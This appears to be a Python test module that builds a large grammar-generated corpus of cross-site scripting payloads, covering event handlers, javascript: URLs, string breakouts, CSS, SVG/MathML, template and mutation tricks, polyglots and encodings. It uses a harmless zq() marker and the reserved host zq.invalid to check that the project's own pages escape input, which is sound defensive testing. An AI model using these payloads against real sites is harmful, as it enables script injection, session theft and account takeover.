"""Texts that would become scripts, elements or addresses in a page that forgets to escape: put together from a grammar.

Each is for one context in which a text may stand (`Script.context`). Whatever comes alive leaves a sign: it calls
`zq()`, its element carries the attribute `zq`, or it asks the host `zq.invalid` for something. tests/proofs/browsed.py
first shows in a browser that they do where nothing is escaped, then that none does on our pages.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import cycle
from urllib.parse import quote

ELEMENTS = (
    *("img src=x|onerror", "svg|onload", "body|onpageshow", "video src=x|onerror", "audio src=x|onerror"),
    *("details open|ontoggle", "input autofocus|onfocus", "select autofocus|onfocus", "textarea autofocus|onfocus"),
    *("button autofocus|onfocus", "marquee|onstart", "iframe|onload", "object data=x|onerror", "style|onload"),
    *("link rel=stylesheet href=x|onerror", "embed src=x|onload", "a tabindex=1|onfocusin", "math|onmouseover"),
    *("form|onsubmit", "dialog open|onclose", "svg><animate dur=1s|onbegin", "svg><set dur=1s|onend", "q|onclick"),
    *(
        "p contenteditable|onbeforeinput",
        "input type=image src=x|onerror",
        "picture><img srcset=x|onerror",
        "x-y|onkeyup",
    ),
)
GAPS = (" ", "/", "\n", "\t", "\f", " / ", "\r\n")
CODES = (
    *("zq()", "zq`1`", "window['zq']()", "top.zq()", 'setTimeout("zq()")', "eval('z'+'q()')", "[1].map(zq)"),
    *("zq&lpar;&rpar;", "&#122;q()", "\\u007aq()", "alert(zq())", "(0,zq)()", "this.ownerDocument.defaultView.zq()"),
    *("Reflect.apply(zq,0,[])", "new(Function)('zq()')()", "location='javascript:zq()'", "&#x7a;&#x71;&#40;&#41;"),
)
IMAGE = "<img zq src=x onerror=zq()>"
BODIES = (IMAGE, "<script zq>zq()</script>", "<svg/zq/onload=zq()>")
CLOSERS = ('"', "'", "", '"/', "'\n", '"\t')
HANDLERS = (
    *("onmouseover", "onfocus", "onclick", "onpointerenter", "oncopy", "onanimationstart", "ontransitionend"),
    *("hx-on:click", "hx-on::load", "data-hx-on:click", "onblur", "onbeforetoggle"),
)
ENDS = (
    *('">', "'>", ">", "-->", "--!>", "</textarea>", "</title>", "</style>", "</script>", "</select>", "</noscript>"),
    *("</xmp>", "</template>", "</iframe>", "</noembed>", "</option></select>", "</svg>", "</math>", "]]>", "?>", "%>"),
)
SCHEMES = (
    *("javascript:zq()", "JaVaScRiPt:zq()", "java\tscript:zq()", "java\nscript:zq()", "\x01javascript:zq()"),
    *("javascript&colon;zq()", "&#106;avascript:zq()", "&#x6A&#x61vascript:zq()", "javascript:zq&lpar;&rpar;"),
    *("javascript://zq.invalid/%0azq()", "javascript:/*x*/zq()", "javascript:void(zq())", "javascript&Tab;:zq()"),
    *("javascript:%7aq()", "  javascript:zq()", "data:text/html,<script>zq()</script>", "vbscript:zq()"),
    *("data:text/html;base64,PHNjcmlwdD56cSgpPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=zq()>", "view-source:zq()"),
    *(
        "//zq.invalid/",
        "\\\\zq.invalid\\",
        "/\\zq.invalid/",
        "https:zq.invalid",
        "https://a@zq.invalid/",
        "///zq.invalid",
    ),
    *("feed:javascript:zq()", "jar:javascript:zq()", "livescript:zq()", "mocha:zq()", "blob:javascript:zq()"),
)
STRINGS = (
    *("';zq();//", '";zq();//', "`;zq();//", "'-zq()-'", '"-zq()-"', "${zq()}", "'+zq()+'", '"+zq()+"', "',zq(),'"),
    *("\\';zq();//", '\\";zq();//', "'});zq();({a:'", '"});zq();({a:"', "*/zq();/*", "\nzq();//", "\u2028zq()//"),
    *(
        "</script><script zq>zq()</script>",
        "</SCRIPT\n><svg/zq/onload=zq()>",
        "<!--<script>",
        "'||zq()||'",
        "'&&zq()//",
    ),
    *("\\x27;zq();//", "\\u0027;zq();//", "'];zq();['", "');zq();('", "&apos;);zq();//", "&#39;);zq();//", "'?zq():'"),
    *("\\\n';zq();//", "';zq();var x='", '";zq();var x="', "'in zq()in'", "'/zq()/'", "';onerror=zq;throw'1"),
)
STYLES = (
    *("red;background:url(//zq.invalid/1)", "}*{background:url(//zq.invalid/2)}", "</style><b zq>", "expression(zq())"),
    *(
        "@import '//zq.invalid/3';",
        "\\75rl(//zq.invalid/4)",
        "red}</style><script zq>zq()</script>",
        "url(javascript:zq())",
    ),
    *(
        "x;-moz-binding:url(//zq.invalid/5)",
        "red;behavior:url(//zq.invalid/6)",
        "}input[value^=a]{background:url(//zq.invalid/7)}",
    ),
    *(
        "red;list-style:url(//zq.invalid/8)",
        "}@font-face{font-family:a;src:url(//zq.invalid/9)}*{font-family:a",
        "/**/red;}*{color:red}",
    ),
    *(
        "red;border-image:url(//zq.invalid/10)",
        '";background:url(//zq.invalid/11);x:"',
        "';background:url(//zq.invalid/12);x:'",
    ),
    *(
        "red!important;position:fixed;inset:0",
        "x:exp/**/ression(zq())",
        "}:root{--x:url(//zq.invalid/13);cursor:var(--x),auto}",
    ),
)
FOREIGN = (
    *(
        "<svg zq><script>zq()</script></svg>",
        "<svg zq><script href=data:,zq() /></svg>",
        "<svg zq><a xlink:href=javascript:zq()><text>x",
    ),
    *(
        "<svg zq><use href='data:image/svg+xml,<svg id=x onload=zq()>#x'>",
        "<svg zq><image href=//zq.invalid/14 onerror=zq()>",
    ),
    *(
        "<svg zq><foreignObject><iframe srcdoc='<script>parent.zq()</script>'>",
        "<svg zq><style>@import '//zq.invalid/15'</style>",
    ),
    *(
        "<svg zq><a><animate attributeName=href values=javascript:zq() /><text>x",
        "<svg zq><desc><img src=x onerror=zq()></desc>",
    ),
    *(
        "<svg zq><title><style><img src=x onerror=zq()>",
        "<svg zq><handler xmlns:ev=x ev:event=load>zq()",
        "<svg zq/onload=zq()//",
    ),
    *(
        "<math zq href=javascript:zq()>x",
        "<math zq><maction actiontype=statusline xlink:href=javascript:zq()>x",
        "<math zq><mi href=//zq.invalid/>x",
    ),
    *(
        "<math zq><annotation-xml encoding=text/html><script>zq()</script>",
        "<math zq><mtext><img src=x onerror=zq()>",
        "<math zq><semantics><script>zq()",
    ),
    *(
        "<svg zq><set attributeName=onmouseover to=zq()>",
        "<svg zq><discard onbegin=zq()>",
        "<svg zq><filter><feImage href=//zq.invalid/16>",
    ),
    *(
        "<?xml-stylesheet zq href='javascript:zq()'?><b zq>",
        "<![CDATA[<script zq>zq()</script>]]>",
        "<svg zq><![CDATA[><img src=x onerror=zq()>]]>",
    ),
)
FRAMES = (
    *(
        "<iframe zq srcdoc='<script>parent.zq()</script>'>",
        "<iframe zq src=javascript:parent.zq()>",
        "<object zq data=javascript:zq()>",
    ),
    *(
        "<embed zq src=javascript:zq()>",
        "<base zq href=//zq.invalid/>",
        "<meta zq http-equiv=refresh content='9;url=//zq.invalid/'>",
    ),
    *(
        "<form zq action=javascript:zq()><button>",
        "<button zq formaction=javascript:zq()>",
        "<a zq href=javascript:zq()>x",
        "<link zq rel=stylesheet href=//zq.invalid/17>",
    ),
    *(
        "<form zq action=//zq.invalid/ id=sheet>",
        "<input zq form=sheet name=key value=x>",
        "<img zq name=cookie>",
        "<a zq id=htmx><a id=htmx name=config>",
    ),
    *(
        "<script zq src=//zq.invalid/18></script>",
        "<script zq type=module>import '//zq.invalid/19'</script>",
        "<body zq background=//zq.invalid/20>",
    ),
    *(
        "<div zq hx-get=//zq.invalid/21 hx-trigger=load>",
        "<div zq data-hx-post=//zq.invalid/22 hx-trigger=load>",
        "<p zq hx-on::load=zq()>",
    ),
    *(
        "<portal zq src=//zq.invalid/>",
        "<template zq><script>zq()</script></template>",
        "<template zq shadowrootmode=open><script>zq()</script>",
    ),
    *(
        "<div zq popover id=x><button popovertarget=x>",
        "<a zq ping=//zq.invalid/ href=#>x",
        "<video zq poster=//zq.invalid/23>",
        "<track zq src=//zq.invalid/>",
    ),
)
TEMPLATES = (
    *(
        "{{constructor.constructor('zq()')()}}",
        "{{$on.constructor('zq()')()}}",
        "{{zq()}}",
        "[[zq()]]",
        "${zq()}",
        "#{zq()}",
        "<%=zq()%>",
    ),
    *(
        "{{{zq()}}}",
        "{%raw%}{{zq()}}",
        "{{toString().constructor.constructor('zq()')()}}",
        "{% load static %}{{zq}}",
        "{% autoescape off %}<b zq>{% endautoescape %}",
    ),
    *(
        "{{'<b zq>'|safe}}",
        "{% firstof '<b zq>' %}",
        "{% verbatim %}<b zq>{% endverbatim %}",
        "{# x #}<b zq>",
        "{{x|default:'<b zq>'}}",
        "{% now '\\<\\b' %}<b zq>",
    ),
    *(
        "<p zq v-html=zq()>",
        "<p zq ng-init=zq()>",
        "<p zq x-init=zq()>",
        "<p zq _='on load call zq()'>",
        '<p zq data-bind="x:zq()">',
        "<p zq :class=zq()>",
        "<p zq @click=zq()>",
    ),
    *(
        "{{#with 'zq'}}{{/with}}<b zq>",
        "<script zq type=text/x-template>{{zq()}}</script>",
        "*{zq()}",
        "@(zq())",
        "$!{zq()}",
        "{php}zq(){/php}<b zq>",
        "=zq()",
        "%{zq()}",
        "~{zq()}",
    ),
)
MUTATIONS = (
    *(
        '<noscript><p title="</noscript><img zq src=x onerror=zq()>">',
        '<svg></p><style><a id="</style><img zq src=x onerror=zq()>">',
    ),
    *(
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img zq src=x onerror=zq()&gt;">',
        "<form><math><mtext></form><form><mglyph><style></math><img zq src onerror=zq()>",
    ),
    *(
        '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img zq src onerror=zq()>"></style></h1>',
        "<svg><desc><title><a title='</title><img zq src=x onerror=zq()>'>",
    ),
    *(
        "<table><a zq href=javascript:zq()>x",
        "<select><template><img zq src=x onerror=zq()>",
        '<p id="</p><img zq src=x onerror=zq()>">',
        "<svg><style><img title='</style><img zq src=x onerror=zq()>'>",
    ),
    *(
        '<xmp><p title="</xmp><img zq src=x onerror=zq()>">',
        '<textarea><b title="</textarea><img zq src=x onerror=zq()>">',
        '<title><b title="</title><img zq src=x onerror=zq()>">',
        '<noembed><b title="</noembed><img zq src=x onerror=zq()>">',
    ),
    *(
        '<iframe><b title="</iframe><img zq src=x onerror=zq()>">',
        "<listing>\n<img zq src=x onerror=zq()>",
        "<!--><img zq src=x onerror=zq()>-->",
        "<!---!><img zq src=x onerror=zq()>",
        "<!-- --!><img zq src=x onerror=zq()>",
    ),
    *(
        "<<img zq src=x onerror=zq()>",
        "<img zq src=x onerror=zq()//",
        "</br zq onclick=zq()>",
        "<b zq <script>zq()</script>",
        "<a/zq\x0c/href=javascript:zq()>x",
        "</p zq><b/zq>",
        "<image zq src=x onerror=zq()>",
    ),
)
POLYGLOTS = (
    "javascript:/*--></title></style></textarea></script></xmp><svg/zq/onload='+/\"/+/onmouseover=1/+/[*/[]/+zq()//'>",
    "'\"></textarea></title></script><img zq src=x onerror=zq()>{{zq()}}${zq()}",
    "\"'`--><svg/zq/onload=zq()>//\\';zq();//",
    "</script></style></title>'\"><details/zq/open/ontoggle=zq()>",
    "-->]]>%>?></template></noscript><iframe/zq/onload=zq()>",
    "*/;zq();/*'\"><marquee zq onstart=zq()>",
    "\\\"><input zq autofocus onfocus=zq()>\\'",
    "}}%}<b zq>{{'</b>'}}{%",
    "';zq()//\";zq()//`;zq()//--></script><b zq>'\"><b/zq>",
    "java&Tab;script:zq()//'\"><a/zq/href=javascript:zq()>",
)
ENCODED = (IMAGE, "<script zq>zq()</script>", "<svg/zq/onload=zq()>", '"><b zq>', "'/zq/onfocus=zq()/x='", "<a zq href=javascript:zq()>x", "<iframe zq srcdoc=x>", "</title><b zq>")  # fmt: skip


def _each(form: str) -> Callable[[str], str]:
    return lambda text: "".join(form.format(ord(letter)) for letter in text)


def _signs(pairs: dict[str, str]) -> Callable[[str], str]:
    return lambda text: "".join(pairs.get(letter, letter) for letter in text)


ENCODERS: dict[str, Callable[[str], str]] = {
    "entities": escape,
    "decimal": _each("&#{};"),
    "hexadecimal": _each("&#x{:x};"),
    "padded": _signs({"<": "&#0000060;", ">": "&#0000062;", '"': "&#0000034;", "'": "&#0000039;"}),
    "unended": _signs({"<": "&lt", ">": "&gt", '"': "&quot"}),
    "twice": lambda text: escape(escape(text)),
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "\\u": _each("\\u{:04x}"),
    "\\x": _each("\\x{:02x}"),
    "wide": _signs({"<": "＜", ">": "＞", '"': "＂", "'": "＇", "/": "／", "=": "＝"}),
    "base64": lambda text: base64.b64encode(text.encode()).decode(),
    "UTF-7": lambda text: "+" + base64.b64encode(text.encode("utf-16-be")).decode().rstrip("=") + "-",
    "soft": lambda text: text.replace("<", "<\u00ad").replace("(", "\u200b("),
    "turned": lambda text: f"\u202e{text}\u202c",
    "joined": lambda text: text.replace("<", "<\u0338").replace("zq", "z\u0301q"),
    "small": _signs({"<": "﹤", ">": "﹥", "(": "﹙", ")": "﹚"}),
    "quoted": _signs({"<": "‹", ">": "›", '"': "ʺ", "'": "ʹ"}),
    "overlong": lambda text: text.replace("<", b"\xc0\xbc".decode("latin-1")).replace(
        ">", b"\xc0\xbe".decode("latin-1")
    ),
    "marked": lambda text: f"\ufeff{text}",
}


@dataclass(frozen=True, slots=True)
class Script:
    """One text, and the context in which it would come alive."""

    context: str
    text: str


def _elements() -> Iterator[str]:
    gaps, codes, quotes, cases = cycle(GAPS), cycle(CODES), cycle(("", '"', "'")), cycle((str.lower, str.upper, str.title, str.lower))  # fmt: skip
    for one in ELEMENTS * 8:
        element, handler = one.split("|")
        tag, space, rest = element.partition(" ")
        gap, code, mark, case = next(gaps), next(codes), next(quotes), next(cases)
        if "'" in code or '"' in code:
            mark = "'" if '"' in code else '"'
        before = f"{case(tag)}{space}{rest}" if ">" in element else f"{case(tag)}{gap if rest else ''}{rest}"
        yield f"<{before}{gap}zq{gap}{case(handler)}={mark}{code}{mark}{'>' if mark or '/' not in gap else ' >'}"


def _attributes() -> Iterator[str]:
    for mark in CLOSERS:
        for handler in HANDLERS:
            gap = mark[1:] or " "
            yield f"{mark[:1] or 'x'}{gap}zq{gap}{handler}={'zq()'} x={mark[:1]}"


def corpus() -> tuple[Script, ...]:
    """Every text once, in an order that mixes the contexts."""
    parts = {
        "text": [*_elements(), *FOREIGN, *FRAMES],
        "attribute": list(_attributes()),
        "closed": [end + body for end in ENDS for body in BODIES],
        "address": SCHEMES,
        "string": STRINGS,
        "style": STYLES,
        "template": TEMPLATES,
        "mutation": MUTATIONS,
        "polyglot": POLYGLOTS,
        "encoded": [encode(text) for text in ENCODED for encode in ENCODERS.values()],
    }
    seen = dict[str, Script]()
    for context, texts in parts.items():
        for text in texts:
            seen.setdefault(text, Script(context, text))
    found, step = list(seen.values()), 97
    while len(found) % step == 0:
        step += 2
    return tuple(found[number * step % len(found)] for number in range(len(found)))


CORPUS = corpus()
